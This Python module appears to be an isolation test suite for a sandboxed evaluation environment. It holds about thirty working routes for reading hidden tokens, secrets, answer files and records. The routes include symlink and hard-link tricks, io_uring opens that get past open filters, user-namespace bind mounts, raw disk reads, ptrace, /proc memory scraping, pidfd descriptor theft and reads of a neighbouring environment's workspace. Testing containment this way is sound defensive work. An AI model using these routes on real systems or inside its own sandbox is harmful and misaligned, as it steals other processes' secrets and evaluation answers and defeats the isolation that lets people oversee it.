"""Routes to what only the library may read: files, and another process's memory."""

from __future__ import annotations

import contextlib
import ctypes
import mmap
import os
import re
import socket
import stat
import struct
import subprocess
import tempfile
import time
from collections.abc import Callable, Iterator
from typing import Any

TOKEN = re.compile(rb"token-[0-9a-f]{32}")
CHUNK = 1 << 20
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
Facts = dict[str, Any]


def call(number: int, *arguments: Any) -> int:
    """Make a system call; an error is raised."""
    wide = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]
    result: int = libc.syscall(ctypes.c_long(number), *wide)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def content(path: str) -> bytes:
    """A regular file's content, up to a size; reading anything else could block, or take data from others."""
    with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
        if not stat.S_ISREG(os.fstat(file.fileno()).st_mode):
            raise OSError(f"{path} is not a regular file")
        return file.read(64 << 20)


def hidden(facts: Facts) -> list[str]:
    """Paths that must not be readable."""
    return [facts["token_file"], facts["secret"], *facts["answers"], *facts["records"]]


def every(paths: list[str]) -> list[bytes]:
    """The contents of those paths that can be read; raises the first error if none can."""
    contents: list[bytes] = []
    first: OSError | None = None
    for path in paths:
        try:
            contents.append(content(path))
        except OSError as error:
            first = first or error
    if first is not None and not contents:
        raise first
    return contents


def by_path(facts: Facts) -> list[bytes]:
    """Open private files by their paths."""
    return every(hidden(facts))


def by_cat(facts: Facts) -> bytes:
    """Let other programs open a private file."""
    commands = (["cat"], ["dd", "status=none"], ["tail", "-c", "+1"])
    output = b""
    for command in commands:
        path = facts["token_file"]
        argument = f"if={path}" if command[0] == "dd" else path
        output += subprocess.run([*command, argument], capture_output=True, check=False).stdout + b"\n"
    return output


def by_listing(facts: Facts) -> list[str]:
    """List the folders of private files; one name there is a token."""
    folder = os.path.dirname(facts["token_file"])
    return [
        *os.listdir(folder),
        *(name for path in facts["answers"] for name in os.listdir(os.path.dirname(path))),
    ]


def by_symlink(facts: Facts) -> list[bytes]:
    """Read private files through symbolic links in the workspace."""
    scratch = tempfile.mkdtemp(dir=".")
    links = []
    for number, path in enumerate(hidden(facts)):
        os.symlink(path, f"{scratch}/{number}")
        links.append(f"{scratch}/{number}")
    return every(links)


def by_hardlink(facts: Facts) -> bytes:
    """Read a private file through a hard link in the workspace."""
    name = f"{tempfile.mkdtemp(dir='.')}/link"
    os.link(facts["token_file"], name)
    return content(name)


def by_rename(facts: Facts) -> bytes:
    """Move a private file into the workspace, read it, and move it back."""
    name = f"{tempfile.mkdtemp(dir='.')}/moved"
    os.rename(facts["token_file"], name)
    data = content(name)
    os.rename(name, facts["token_file"])
    return data


def by_handle(facts: Facts) -> bytes:
    """Open a private file by its handle, without a path."""
    raw, kind = bytes.fromhex(facts["handle"][0]), facts["handle"][1]
    handle = ctypes.create_string_buffer(struct.pack("Ii", len(raw), kind) + raw)
    for folder in (".", "/proc/self/cwd", "/", "/tmp"):
        with contextlib.suppress(OSError):
            mount = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
            return os.read(call(304, mount, handle, os.O_RDONLY), CHUNK)
    raise OSError("no file system would open the handle")


def ring(path: bytes) -> bytes:
    """Open and read a file through io_uring, past any filter on open."""
    parameters = ctypes.create_string_buffer(120)
    descriptor = call(425, 4, parameters)
    words = struct.unpack_from("10I", parameters.raw, 0)
    queue = struct.unpack_from("10I", parameters.raw, 40)
    replies = struct.unpack_from("10I", parameters.raw, 80)
    requests = mmap.mmap(descriptor, queue[6] + words[0] * 4, offset=0)
    answers = mmap.mmap(descriptor, replies[5] + words[1] * 16, offset=0x8000000)
    entries = mmap.mmap(descriptor, words[0] * 64, offset=0x10000000)
    name = ctypes.create_string_buffer(path)
    entry = struct.pack("BBHiQQII", 18, 0, 0, -100, 0, ctypes.addressof(name), 0, os.O_RDONLY)
    entries[: len(entry)] = entry
    requests[queue[6] : queue[6] + 4] = struct.pack("I", 0)
    requests[queue[1] : queue[1] + 4] = struct.pack("I", 1)
    call(426, descriptor, 1, 1, 1, None, 0)
    result = struct.unpack_from("i", answers, replies[5] + 8)[0]
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return os.read(result, CHUNK)


def by_ring(facts: Facts) -> bytes:
    """See `ring`."""
    return ring(facts["token_file"].encode())


def by_bind_mount(facts: Facts) -> list[bytes]:
    """Mount a private folder into the workspace, in a user namespace if necessary."""
    folder, target = os.path.dirname(facts["token_file"]), tempfile.mkdtemp(dir=".")
    if libc.unshare(0x00020000) != 0 and libc.unshare(0x10000000 | 0x00020000) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    libc.mount(b"none", b"/", None, 16384 | 262144, None)
    if libc.mount(folder.encode(), target.encode(), None, 4096 | 16384, None) != 0:
        raise OSError(ctypes.get_errno(), "mount")
    return every([f"{target}/{name}" for name in os.listdir(target)])


def by_disk(facts: Facts) -> bytes:
    """Read a private file's bytes from the disk, at the file's offset."""
    device, offset = facts["disk"]
    node = f"{tempfile.mkdtemp(dir='.')}/disk"
    devices = [node]
    with contextlib.suppress(OSError):
        os.mknod(node, 0o060600, device)
    with contextlib.suppress(OSError):
        devices += [f"/dev/{name}" for name in os.listdir("/dev")]
    for path in devices:
        with contextlib.suppress(OSError):
            if os.stat(path).st_rdev == device:
                return os.pread(os.open(path, os.O_RDONLY), 65536, offset)
    raise OSError("the disk cannot be opened")


def process_file(*parts: str) -> Callable[[Facts], list[bytes]]:
    """A route through `/proc/PID/` of each process that the attacker knows."""

    def route(facts: Facts) -> list[bytes]:
        paths = []
        for pid in facts["pids"]:
            base = "/".join([f"/proc/{pid}", *parts])
            if parts == ("root",):
                paths += [base + path for path in (facts["token_file"], *facts["answers"])]
            elif parts == ("cwd",):
                paths.append(f"{base}/token")
            elif parts == ("fd",):
                paths += [f"{base}/{facts['victim']['fd']}", *descriptors(base)]
            else:
                paths.append(base)
        return every(paths)

    return route


def descriptors(base: str) -> Iterator[str]:
    """Regular files that a process has open."""
    with contextlib.suppress(OSError):
        for name in os.listdir(base):
            with contextlib.suppress(OSError):
                if os.stat(f"{base}/{name}").st_mode & 0o170000 == 0o100000:
                    yield f"{base}/{name}"


def by_memory(facts: Facts) -> list[bytes]:
    """Search the writable memory of other processes for tokens, through /proc/PID/mem."""
    tokens: list[bytes] = []
    first: OSError | None = None
    for pid in facts["pids"]:
        try:
            memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
            with open(f"/proc/{pid}/maps", encoding="ascii") as maps:
                areas = [line.split() for line in maps]
        except OSError as error:
            first = first or error
            continue
        for columns in areas[:400]:
            start, end = (int(address, 16) for address in columns[0].split("-"))
            if columns[1].startswith("rw"):
                with contextlib.suppress(OSError, OverflowError):
                    tokens += TOKEN.findall(os.pread(memory, min(end - start, 8 << 20), start))
    if first is not None and not tokens:
        raise first
    return tokens[:8]


def by_trace(facts: Facts) -> bytes:
    """Attach to the trusted process as a debugger and read word by word."""
    pid, address = facts["victim"]["pid"], facts["victim"]["address"]
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(16, pid, None, None) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(pid, 0x40000000)
    data = b"".join(
        struct.pack("q", libc.ptrace(2, pid, ctypes.c_void_p(address + at), None)) for at in range(0, 40, 8)
    )
    libc.ptrace(17, pid, None, None)
    return data


def by_vm_read(facts: Facts) -> bytes:
    """Copy the trusted process's memory by process_vm_readv."""
    buffer = ctypes.create_string_buffer(64)
    ours = struct.pack("QQ", ctypes.addressof(buffer), 40)
    theirs = struct.pack("QQ", facts["victim"]["address"], 40)
    call(310, facts["victim"]["pid"], ours, 1, theirs, 1, 0)
    return buffer.raw


def by_pidfd(facts: Facts) -> bytes:
    """Take an open descriptor out of the trusted process."""
    pidfd = call(434, facts["victim"]["pid"], 0)
    return os.pread(call(438, pidfd, facts["victim"]["fd"], 0), CHUNK, 0)


def by_namespace(facts: Facts) -> list[bytes]:
    """Enter the trusted process's mount namespace."""
    descriptor = os.open(f"/proc/{facts['victim']['pid']}/ns/mnt", os.O_RDONLY)
    if libc.setns(descriptor, 0) != 0:
        raise OSError(ctypes.get_errno(), "setns")
    return every(hidden(facts))


def by_inheritance(_facts: Facts) -> list[bytes]:
    """Read descriptors that were left open for this process."""
    contents: list[bytes] = []
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            if int(name) > 2 and os.stat(int(name)).st_mode & 0o170000 == 0o100000:
                contents.append(os.pread(int(name), CHUNK, 0))
    return contents


def by_environment(_facts: Facts) -> list[bytes]:
    """Read the environment variables of this process and of its ancestors."""
    lines = [f"{name}={value}" for name, value in os.environ.items()]
    variables = [line.encode("utf-8", "surrogateescape") for line in lines]
    for pid in {1, os.getppid()}:
        with contextlib.suppress(OSError):
            variables += content(f"/proc/{pid}/environ").split(b"\0")
    return variables


def from_sysv(facts: Facts) -> bytes:
    """Attach the trusted process's System V shared memory."""
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(facts["victim"]["sysv"], None, 0o10000)
    if address in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "shmat")
    return ctypes.string_at(address, 40)


def from_posix(facts: Facts) -> bytes:
    """Open the trusted process's POSIX shared memory."""
    return content(f"/dev/shm/{facts['victim']['posix']}")


def listen(family: int, kind: int, address: Any) -> bytes:
    """What a server sends to a client that greets it."""
    with socket.socket(family, kind) as client:
        client.settimeout(2)
        client.connect(address)
        client.send(b"hello")
        return client.recv(100)


def from_tcp(facts: Facts) -> bytes:
    """Talk to the trusted process's TCP server."""
    return listen(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", facts["victim"]["tcp"]))


def from_udp(facts: Facts) -> bytes:
    """Talk to the trusted process's UDP server."""
    return listen(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", facts["victim"]["udp"]))


def from_abstract(facts: Facts) -> bytes:
    """Talk to the trusted process over its abstract unix socket."""
    return listen(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + facts["victim"]["abstract"])


def from_path_socket(facts: Facts) -> bytes:
    """Talk to the trusted process over its unix socket with a path."""
    return listen(socket.AF_UNIX, socket.SOCK_STREAM, facts["victim"]["path"])


def metadata(facts: Facts) -> list[str]:
    """Read when a private file was written, which also tells later whether it changed."""
    return [f"fact:mtime-{os.stat(facts['token_file']).st_mtime_ns}"]


def watch(facts: Facts) -> str:
    """Watch when a private file is opened."""
    descriptor = libc.inotify_init1(0o4000)
    if libc.inotify_add_watch(descriptor, facts["token_file"].encode(), 0x21) < 0:
        raise OSError(ctypes.get_errno(), "inotify")
    time.sleep(0.5)
    return "claim:watched" if os.read(descriptor, 100) else ""


def command_line(facts: Facts) -> bytes:
    """Read the arguments that the trusted process was started with."""
    return content(f"/proc/{facts['victim']['pid']}/cmdline")


def neighbour(facts: Facts) -> list[bytes]:
    """Read another environment's workspace and record."""
    return every(facts["neighbour"])


ROUTES: dict[str, Callable[[Facts], Any]] = {
    "path": by_path,
    "other-programs": by_cat,
    "listing": by_listing,
    "symlink": by_symlink,
    "hardlink": by_hardlink,
    "rename": by_rename,
    "file-handle": by_handle,
    "io-uring": by_ring,
    "bind-mount": by_bind_mount,
    "raw-disk": by_disk,
    "proc-root": process_file("root"),
    "proc-cwd": process_file("cwd"),
    "proc-fd": process_file("fd"),
    "proc-environ": process_file("environ"),
    "proc-mem": by_memory,
    "ptrace": by_trace,
    "process-vm-readv": by_vm_read,
    "pidfd-getfd": by_pidfd,
    "setns": by_namespace,
    "inherited-descriptors": by_inheritance,
    "environment": by_environment,
    "sysv-shared-memory": from_sysv,
    "posix-shared-memory": from_posix,
    "tcp": from_tcp,
    "udp": from_udp,
    "abstract-socket": from_abstract,
    "path-socket": from_path_socket,
    "metadata": metadata,
    "inotify": watch,
    "command-line": command_line,
    "neighbour": neighbour,
}
